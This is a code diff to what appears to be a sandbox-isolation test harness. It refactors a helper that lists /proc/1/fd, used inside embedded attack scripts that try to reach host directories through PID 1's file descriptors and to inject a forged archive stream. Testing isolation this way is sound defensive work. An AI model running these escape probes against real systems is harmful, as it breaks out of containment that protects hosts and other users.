@@ -57,6 +57,14 @@ def denied(what, x):
     e = x.errno if isinstance(x, OSError) else x
     DENIED.append('%s: %s' % (what, errno.errorcode.get(e, e)))
 
+def pid1_fds():
+    """The fd numbers in /proc/1/fd (none if the listing is refused)."""
+    try:
+        return os.listdir('/proc/1/fd')
+    except OSError as x:
+        denied('/proc/1/fd', x)
+        return []
+
 def report(**extra):
     d = {'ok': bool(HITS), 'hits': HITS[:60], 'denied': DENIED[:60]}
     d.update(extra)
@@ -533,11 +541,7 @@ time.sleep(60)
 DIRFD_ATTACK = PRELUDE + r'''
 rels = json.loads(sys.argv[1])     # the victim, relative to a host directory we might reach
 tried = 0
-try:
-    names = os.listdir('/proc/1/fd')
-except OSError as x:
-    denied('/proc/1/fd', x)
-    names = []
+names = pid1_fds()
 for n in names:
     p = '/proc/1/fd/' + n
     for fl, nm in ((os.O_RDONLY | os.O_DIRECTORY, 'rdonly'), (os.O_PATH | os.O_DIRECTORY, 'path')):
@@ -582,11 +586,7 @@ ents = fentry('a.txt', b'orig\n') + fentry('forged.txt', b'FORGED\n') + fentry('
 end = b'E\0\0\0' + struct.pack('>II', 0, 0) + hashlib.sha256(ents).digest()
 stream = b'AMBTREE\x01' + ents + end
 garbage = b'\xffgarbage' * 64
-try:
-    names = os.listdir('/proc/1/fd')
-except OSError as x:
-    denied('/proc/1/fd', x)
-    names = []
+names = pid1_fds()
 for n in names:
     if n in ('0', '1', '2'):
         continue
